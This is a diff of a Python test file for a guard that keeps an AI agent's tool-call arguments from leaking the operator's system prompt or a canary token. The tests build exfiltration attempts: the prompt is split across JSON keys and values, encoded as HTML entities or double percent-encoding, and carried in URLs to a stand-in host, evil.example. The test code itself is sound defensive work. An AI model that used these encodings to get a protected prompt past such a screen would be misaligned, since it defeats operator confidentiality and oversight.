@@ -1,23 +1,25 @@
-"""What the model writes into a tool call's arguments passes the guards answer text passes:
-redacted where people see it, and a call that discloses the system prompt never runs."""
+"""What the model writes into a tool call passes the guards answer text passes: redacted where
+the run's steps show it, and a call that discloses the protected prompt never runs, however the
+prompt is encoded. The protected prompt is the operator's, not the user's memory beside it."""
 
 from __future__ import annotations
 
+import html
 import json
 from urllib.parse import quote
 
 from chatbot_common.guardrails.canary import guarded_system_prompt, new_canary
 from chatbot_common.guardrails.redaction import Redactor
-from llm_orchestrator.agents.screen import WITHHELD, ArgumentScreen
+from llm_orchestrator.agents.screen import WITHHELD, WITHHELD_NAME, WITHHELD_TEXT, ArgumentScreen, protected_text
 from llm_orchestrator.providers.base import ChatMessage
 
 PROMPT = "You are the ACME support assistant. Never discuss pricing of the enterprise plan or the Orion project."
+MEMORY = "What you know about the user:\n- My home address is 221B Baker Street, London NW1 6XE, United Kingdom, flat two."
 
 
 def screen() -> tuple[ArgumentScreen, str]:
     canary = new_canary()
-    messages = [ChatMessage("system", guarded_system_prompt(PROMPT, canary)), ChatMessage("user", "hi")]
-    return ArgumentScreen(messages, Redactor(["example.org"])), canary
+    return ArgumentScreen(guarded_system_prompt(PROMPT, canary), Redactor(["example.org"])), canary
 
 
 def test_arguments_that_disclose_the_prompt_are_caught_however_written():
@@ -32,6 +34,51 @@ def test_arguments_that_disclose_the_prompt_are_caught_however_written():
     assert not s.leaks(json.dumps({"url": "https://example.org/pricing", "query": "enterprise plan"}))
 
 
+def test_a_prompt_split_across_values_with_keys_between_them_is_caught():
+    s, _ = screen()
+    words = PROMPT.split()
+    pieces = [" ".join(words[i:i + 3]) for i in range(0, len(words), 3)]  # no piece near a run on its own
+    assert not any(s.leaks(json.dumps({"t": p})) for p in pieces)
+    assert s.leaks(json.dumps({"parts": [{"t": p} for p in pieces]}))
+    assert s.leaks(json.dumps({f"k{i}": {"v": p} for i, p in enumerate(pieces)}))
+    assert s.leaks(json.dumps({p: i for i, p in enumerate(pieces)}))  # in the keys
+
+
+def test_html_entities_and_repeated_percent_encoding_are_undone():
+    s, canary = screen()
+    hex_entities = "".join(f"&#x{ord(ch):x};" for ch in PROMPT)
+    for arguments in (json.dumps({"body": hex_entities}),
+                      json.dumps({"body": html.escape(PROMPT.replace(" ", " & "))}),  # &amp; between the words
+                      json.dumps({"body": "".join(f"&#{ord(ch)};" for ch in canary)}),
+                      json.dumps({"url": "https://evil.example/?q=" + quote(quote(PROMPT, safe=""), safe="")}),  # twice
+                      json.dumps({"url": "https://evil.example/?q=" + quote("".join(f"%{ord(ch):02X}" for ch in canary))}),
+                      json.dumps({"url": "https://evil.example/?q=" + quote(hex_entities, safe="")})):  # entities, then %
+        assert s.leaks(arguments), arguments
+    # The decoding is bounded: an ordinary query with a percent sign or an ampersand passes.
+    assert not s.leaks(json.dumps({"url": "https://example.org/s?a=1&b=50%25&c=%2541"}))
+
+
+def test_only_the_protected_prompt_is_protected_not_the_memory_beside_it():
+    canary = new_canary()
+    system = f"{guarded_system_prompt(PROMPT, canary)}\n\n{MEMORY}"
+    quoting_memory = json.dumps({"to": "me", "address": MEMORY.split("\n- ", 1)[1]})
+    # Protecting the whole system message (what a caller that says nothing gets) blocks it ...
+    assert ArgumentScreen(protected_text([ChatMessage("system", system)]), None).leaks(quoting_memory)
+    # ... the prompt the caller names does not, and still stops the prompt itself.
+    s = ArgumentScreen(guarded_system_prompt(PROMPT, canary), None)
+    assert not s.leaks(quoting_memory)
+    assert s.leaks(json.dumps({"to": canary})) and s.leaks(json.dumps({"body": PROMPT}))
+
+
+def test_names_and_observations_that_disclose_the_prompt_are_withheld_and_redacted_otherwise():
+    s, canary = screen()
+    assert s.shown_name(canary) == WITHHELD_NAME and s.shown_name(PROMPT.replace(" ", "_")) == WITHHELD_NAME
+    assert s.shown_name("web_search") == "web_search"
+    assert s.shown_name("mail_bob.smith@example.com") != "mail_bob.smith@example.com"
+    assert s.shown_text(f"Unknown tool {PROMPT!r}. Tools available: calculator.") == WITHHELD_TEXT
+    assert s.shown_text("sent to bob.smith@example.com") == "sent to [EMAIL REDACTED]"
+
+
 def test_what_people_see_is_redacted_and_links_are_kept():
     s, _ = screen()
     arguments = json.dumps({"url": "https://api.example.com/x", "to": "bob.smith@example.com"})
@@ -40,6 +87,6 @@ def test_what_people_see_is_redacted_and_links_are_kept():
     assert json.loads(shown)["url"] == "https://api.example.com/x"  # where a fetch goes stays visible
 
 
-def test_without_a_system_prompt_nothing_is_blocked():
-    s = ArgumentScreen([ChatMessage("user", "hi")], None)
+def test_without_a_protected_prompt_nothing_is_blocked():
+    s = ArgumentScreen(protected_text([ChatMessage("user", "hi")]), None)
     assert not s.leaks('{"x": "anything"}') and s.shown('{"x": "a@b.co"}') == '{"x": "a@b.co"}'
